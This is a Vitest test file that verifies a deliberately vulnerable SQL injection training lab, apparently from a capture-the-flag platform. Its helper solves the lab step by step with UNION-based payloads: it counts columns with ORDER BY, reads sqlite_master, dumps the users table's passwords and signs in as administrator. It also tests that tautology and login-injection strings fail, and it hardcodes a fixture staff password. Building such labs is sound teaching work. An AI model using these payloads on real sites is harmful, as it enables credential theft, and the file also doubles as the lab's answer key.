import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';

type TestLab = Awaited<ReturnType<typeof startTestLab>>;

const filter = (lab: TestLab, category: string) => lab.get(`/filter?category=${encodeURIComponent(category)}`);

/** The cells of every table row on a page, as text. */
function tableRows(body: string): string[][] {
  return [...body.matchAll(/<tr>([\s\S]*?)<\/tr>/g)]
    .map((row) => [...row[1]!.matchAll(/<td>([\s\S]*?)<\/td>/g)].map((cell) => cell[1]!))
    .filter((cells) => cells.length > 0);
}

/** Extracts the administrator's password the way a learner would, step by step. */
async function extractAdminPassword(lab: TestLab): Promise<string> {
  // 1. Count the columns: ORDER BY n until the database complains.
  let columns = 0;
  for (let n = 1; n <= 10; n += 1) {
    const answer = await filter(lab, `Gifts' ORDER BY ${n}--`);
    if (answer.status !== 200) {
      expect(answer.status).toBe(500);
      expect(answer.body).toContain('ORDER BY term out of range');
      break;
    }
    columns = n;
  }
  expect(columns).toBe(2);
  // 2. Which columns are shown?
  const marker = await filter(lab, `nothing' UNION SELECT 'colA','colB'--`);
  expect(tableRows(marker.body)).toEqual([['colA', 'colB']]);
  // 3. Read the schema from sqlite_master.
  const schema = await filter(lab, `nothing' UNION SELECT name, sql FROM sqlite_master--`);
  const usersTable = tableRows(schema.body).find(([name]) => name === 'users');
  expect(usersTable?.[1]).toContain('password TEXT');
  // 4. Dump the accounts.
  const dump = await filter(lab, `nothing' UNION SELECT username, password FROM users--`);
  const admin = tableRows(dump.body).find(([username]) => username === 'administrator');
  expect(admin).toBeDefined();
  return admin![1]!;
}

describe('lab web-sqli-union', () => {
  let lab: TestLab;
  let other: TestLab | undefined;
  afterEach(async () => {
    await lab.close();
    await other?.close();
    other = undefined;
  });

  it('is solved by reading the users table with UNION SELECT and signing in as administrator', async () => {
    lab = await startTestLab('web-sqli-union');
    const home = await lab.get('/');
    expect(home.body).toContain('href="filter?category=Gifts"');
    const gifts = await filter(lab, 'Gifts');
    expect(tableRows(gifts.body)).toContainEqual(['Brass diya set of four', '649']);

    const password = await extractAdminPassword(lab);
    expect(password).toMatch(/^[0-9a-f]{12}$/);

    const login = await lab.get('/login');
    expect(login.body).toContain('action="login"');
    const answer = await lab.post('/login', { username: 'administrator', password });
    expect(answer.status).toBe(200);
    expect(answer.body).toContain('Admin dashboard');
    expect(showsFlag(answer.body, lab.flag)).toBe(true);
  });

  it('gives every start of the lab its own administrator password', async () => {
    lab = await startTestLab('web-sqli-union');
    other = await startTestLab('web-sqli-union', lab.learner);
    const mine = await extractAdminPassword(lab);
    const theirs = await extractAdminPassword(other);
    expect(mine).not.toBe(theirs);
    const wrong = await other.post('/login', { username: 'administrator', password: mine });
    expect(wrong.status).toBe(401);
    expect(wrong.body).not.toContain(other.flag);
  });

  it('shows no password to honest browsing or a plain tautology, and refuses guesses and login injection', async () => {
    lab = await startTestLab('web-sqli-union');
    const password = await extractAdminPassword(lab);

    const gifts = await filter(lab, 'Gifts');
    expect(gifts.body).not.toContain(password);
    // A tautology reveals the unreleased products, but the accounts stay in their own table.
    const everything = await filter(lab, `' OR 1=1--`);
    expect(tableRows(everything.body)).toContainEqual(['Madhubani bookmark trio', '149']);
    expect(everything.body).not.toContain(password);
    // The UNION needs the right number of columns.
    const mismatch = await filter(lab, `' UNION SELECT username, password, email FROM users--`);
    expect(mismatch.status).toBe(500);
    expect(mismatch.body).not.toContain(password);

    for (const attempt of [
      { username: 'administrator', password: 'admin' },
      { username: "administrator'--", password: 'x' },
      { username: 'administrator', password: "' OR '1'='1" },
    ]) {
      const answer = await lab.post('/login', attempt);
      expect(answer.status).toBe(401);
      expect(answer.body).not.toContain(lab.flag);
    }
    const staff = await lab.post('/login', { username: 'deepa.nair', password: 'Backwaters#2019' });
    expect(staff.body).toContain('Signed in as <strong>deepa.nair</strong>');
    expect(staff.body).not.toContain(lab.flag);
  });
});
